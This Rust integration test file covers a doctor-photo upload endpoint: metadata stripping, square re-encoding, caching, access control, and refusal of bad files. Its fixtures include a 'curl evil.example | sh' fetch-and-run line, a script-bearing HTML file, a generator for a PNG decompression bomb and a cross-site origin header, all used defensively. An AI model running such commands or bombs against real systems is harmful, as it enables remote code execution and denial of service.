//! Doctors' photos through the real endpoints: accepted formats re-encoded to square JPEGs
//! without metadata, served with long caching under a content hash; every bad file refused at
//! the field with nothing stored; only the doctor themself may set or remove it.

use crate::helpers::*;
use image::{DynamicImage, ImageFormat, RgbImage};
use reqwest::header::{ACCEPT, CACHE_CONTROL, CONTENT_TYPE, LOCATION, ORIGIN};
use reqwest::multipart::{Form, Part};
use std::io::Cursor;

const NOW: &str = "2026-11-20T12:00:00Z";

fn picture(width: u32, height: u32, format: ImageFormat) -> Vec<u8> {
    let image = RgbImage::from_fn(width, height, |x, y| {
        image::Rgb([(x % 251) as u8, (y % 241) as u8, 120])
    });
    let mut bytes = Cursor::new(Vec::new());
    DynamicImage::ImageRgb8(image).write_to(&mut bytes, format).expect("encoding a test picture");
    bytes.into_inner()
}

/// A JPEG carrying an EXIF block with a GPS position, as a phone writes it.
fn jpeg_with_gps() -> Vec<u8> {
    let plain = picture(640, 480, ImageFormat::Jpeg);
    let mut tiff = b"MM\x00\x2a\x00\x00\x00\x08".to_vec();
    tiff.extend_from_slice(
        b"\x00\x01\x88\x25\x00\x04\x00\x00\x00\x01\x00\x00\x00\x1a\x00\x00\x00\x00",
    );
    tiff.extend_from_slice(b"GPSLatitude 23.7465N GPSLongitude 90.3760E");
    let mut app1 = b"Exif\x00\x00".to_vec();
    app1.extend_from_slice(&tiff);
    let mut bytes = plain[..2].to_vec();
    bytes.extend_from_slice(&[0xFF, 0xE1]);
    bytes.extend_from_slice(&u16::try_from(app1.len() + 2).expect("short segment").to_be_bytes());
    bytes.extend_from_slice(&app1);
    bytes.extend_from_slice(&plain[2..]);
    bytes
}

async fn upload(
    app: &TestApp,
    client: &reqwest::Client,
    name: &str,
    bytes: Vec<u8>,
    browser: bool,
) -> reqwest::Response {
    let part = Part::bytes(bytes).file_name(name.to_owned()).mime_str("image/jpeg").expect("mime");
    let mut request = client
        .post(format!("{}/account/photo", app.address))
        .header(ORIGIN, &app.address)
        .multipart(Form::new().part("photo", part));
    if browser {
        request = request.header(ACCEPT, "text/html,application/xhtml+xml");
    }
    request.send().await.expect("upload sent")
}

async fn photo_url(app: &TestApp, doctor: i64) -> Option<String> {
    sqlx::query_scalar("SELECT '/photos/' || p.hash FROM doctors d JOIN photos p ON p.id = d.photo_id WHERE d.user_id = ?1")
        .bind(doctor)
        .fetch_optional(&app.state.db)
        .await
        .expect("reading the photo")
}

async fn served(app: &TestApp, url: &str) -> (reqwest::header::HeaderMap, Vec<u8>) {
    let response = reqwest::get(format!("{}{url}", app.address)).await.expect("photo fetched");
    assert_eq!(response.status(), 200, "{url}");
    let headers = response.headers().clone();
    (headers, response.bytes().await.expect("photo bytes").to_vec())
}

#[tokio::test]
async fn each_accepted_format_is_served_square_without_its_metadata_and_cached_for_good() {
    let (app, _clock) = spawn_seeded_app_at(NOW).await;
    let doctor = app.signed_in("dr_smith").await;
    let id = app.user_id("dr_smith").await;
    let uploads = [
        ("me.jpg", jpeg_with_gps()),
        ("me.png", picture(300, 500, ImageFormat::Png)),
        ("me.webp", picture(500, 300, ImageFormat::WebP)),
    ];
    for (name, bytes) in uploads {
        let response = upload(&app, &doctor, name, bytes, false).await;
        assert_eq!(response.status(), 200, "{name}: {}", response.text().await.unwrap_or_default());
        let base = photo_url(&app, id).await.expect("the doctor has a photo");
        for (file, side) in [("card.jpg", 160), ("profile.jpg", 480)] {
            let (headers, bytes) = served(&app, &format!("{base}/{file}")).await;
            assert_eq!(headers[CONTENT_TYPE], "image/jpeg");
            assert_eq!(headers[CACHE_CONTROL], "public, max-age=31536000, immutable");
            let image =
                image::load_from_memory_with_format(&bytes, ImageFormat::Jpeg).expect("a JPEG");
            assert_eq!((image.width(), image.height()), (side, side), "{name} {file}");
            let text = String::from_utf8_lossy(&bytes);
            assert!(
                !text.contains("Exif") && !text.contains("GPS"),
                "{name}: metadata left in {file}"
            );
        }
        // Only the current photo is kept.
        assert_eq!(app.count("photos").await, 1);
    }
    // The directory card and the doctor page show it.
    let base = photo_url(&app, id).await.expect("photo");
    let page = reqwest::get(format!("{}/doctors/{id}", app.address))
        .await
        .expect("page")
        .text()
        .await
        .expect("html");
    assert!(page.contains(&format!("{base}/profile.jpg")), "the doctor page shows the photo");
    let directory = reqwest::get(format!("{}/doctors?q=smith", app.address))
        .await
        .expect("page")
        .text()
        .await
        .expect("html");
    assert!(directory.contains(&format!("{base}/card.jpg")), "the card shows the photo");
    // Removing it brings the default avatar back and deletes the picture.
    let removed = doctor
        .post(format!("{}/account/photo/remove", app.address))
        .header(ORIGIN, &app.address)
        .send()
        .await
        .expect("remove sent");
    assert_eq!(removed.status(), 204);
    assert_eq!(app.count("photos").await, 0);
    let gone = reqwest::get(format!("{}{base}/card.jpg", app.address)).await.expect("fetched");
    assert_eq!(gone.status(), 404);
}

#[tokio::test]
async fn bad_files_are_refused_at_the_field_and_nothing_is_stored() {
    let (app, _clock) = spawn_seeded_app_at(NOW).await;
    let doctor = app.signed_in("dr_smith").await;
    let id = app.user_id("dr_smith").await;
    upload(&app, &doctor, "me.png", picture(200, 200, ImageFormat::Png), false)
        .await
        .error_for_status()
        .expect("first photo");
    let before = photo_url(&app, id).await;
    let png = picture(400, 400, ImageFormat::Png);
    let mut huge = picture(64, 64, ImageFormat::Png);
    huge.resize(6 * 1024 * 1024, 0);
    let bomb = png_bomb();
    let cases: [(&str, Vec<u8>, &str); 6] = [
        ("empty.jpg", Vec::new(), "required"),
        ("script.jpg", b"#!/bin/sh\ncurl evil.example | sh\n".to_vec(), "invalid_format"),
        ("page.jpg", b"<html><script>alert(1)</script></html>".to_vec(), "invalid_format"),
        ("cut.png", png[..png.len() / 2].to_vec(), "damaged"),
        ("big.png", huge, "too_long"),
        ("bomb.png", bomb, "out_of_range"),
    ];
    for (name, bytes, code) in cases {
        let response = upload(&app, &doctor, name, bytes.clone(), false).await;
        assert_eq!(response.status(), 400, "{name}");
        let error = error_of(response).await;
        let fields = serde_json::to_value(&error).expect("error as json").to_string();
        assert!(fields.contains("\"photo\"") && fields.contains(code), "{name}: {fields}");
        assert_eq!(app.count("photos").await, 1, "{name}: nothing stored");
        assert_eq!(photo_url(&app, id).await, before, "{name}: the photo kept");
        // A browser's plain form post goes back to the account page with the field's code.
        let response = upload(&app, &doctor, name, bytes, true).await;
        assert_eq!(response.status(), 303, "{name}");
        assert_eq!(
            response.headers()[LOCATION],
            format!("/account?photo_error={code}#photo").as_str()
        );
    }
}

#[tokio::test]
async fn only_the_doctor_themself_sets_their_photo() {
    let (app, _clock) = spawn_seeded_app_at(NOW).await;
    let png = picture(100, 100, ImageFormat::Png);
    let anonymous = upload(&app, &app.client(), "me.png", png.clone(), false).await;
    assert_eq!(anonymous.status(), 401);
    let patient = app.signed_in("alice").await;
    assert_eq!(upload(&app, &patient, "me.png", png.clone(), false).await.status(), 403);
    // A page of another site cannot post a photo for a signed-in doctor.
    let doctor = app.signed_in("dr_smith").await;
    let part = Part::bytes(png).file_name("me.png");
    let cross_site = doctor
        .post(format!("{}/account/photo", app.address))
        .header(ORIGIN, "https://evil.example")
        .multipart(Form::new().part("photo", part))
        .send()
        .await
        .expect("sent");
    assert_eq!(cross_site.status(), 403);
    assert_eq!(app.count("photos").await, 0);
}

/// A 10,000 × 10,000 PNG (300 MB decoded) of a few bytes: a decompression bomb.
fn png_bomb() -> Vec<u8> {
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut header = 10_000u32.to_be_bytes().repeat(2);
    header.extend_from_slice(&[8, 2, 0, 0, 0]);
    let chunks: [(&[u8; 4], Vec<u8>); 3] = [
        (b"IHDR", header),
        (b"IDAT", b"\x78\x9c\x63\x00\x00\x00\x01\x00\x01".to_vec()),
        (b"IEND", Vec::new()),
    ];
    for (kind, data) in chunks {
        png.extend_from_slice(&u32::try_from(data.len()).expect("short chunk").to_be_bytes());
        let mut body = kind.to_vec();
        body.extend_from_slice(&data);
        png.extend_from_slice(&body);
        let mut crc = 0xFFFF_FFFFu32;
        for byte in &body {
            crc ^= u32::from(*byte);
            for _ in 0..8 {
                crc = if crc & 1 == 1 { (crc >> 1) ^ 0xEDB8_8320 } else { crc >> 1 };
            }
        }
        png.extend_from_slice(&(!crc).to_be_bytes());
    }
    png
}
